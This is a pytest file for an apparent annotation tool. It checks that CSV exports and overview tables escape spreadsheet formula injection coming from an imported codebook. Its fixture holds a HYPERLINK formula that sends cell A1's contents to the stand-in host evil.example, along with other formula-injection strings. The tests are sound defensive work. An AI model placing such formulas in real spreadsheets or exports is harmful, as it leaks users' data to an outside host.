"""Formula injection through a colleague's codebook CSV: theme names such as =HYPERLINK(…) merged, then
written to every CSV Marginalia makes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from gui.analysis.overview import gather, table
from gui.export import export, import_annotations
from gui.store import Store
from tests.reliability.conftest import DOC

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


@pytest.fixture
def hostile(store: Store, tmp_path: Path) -> Store:
    book = tmp_path / "taguette.csv"  # Taguette's codebook export, and our own "'=" read back as "="
    book.write_text(f'tag,description\n"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(1+1)\n"\'+1+2",x\n',
                    encoding="utf-8")
    import_annotations(store, book)
    store.tag(DOC, ["para_5"], FORMULA)
    store.tag(DOC, ["para_5"], "+1+2")
    store.tag(DOC, ["para_5"], "poc")
    return store


@pytest.mark.parametrize("kind", ["matrix", "cooccurrence", "timeline"])
def test_no_overview_table_starts_a_cell_with_a_formula(hostile: Store, kind: str) -> None:
    written = cells(table(gather(hostile), kind))  # the header rows named the themes as they are
    assert any(FORMULA in c for c in written) or kind == "matrix"
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("fmt", ["csv", "codebook-csv"])
def test_no_export_starts_a_cell_with_a_formula(hostile: Store, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"out-{fmt}.csv"
    export(hostile, fmt, out)
    written = cells(out.read_bytes())
    assert any(FORMULA in c for c in written)
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@")]
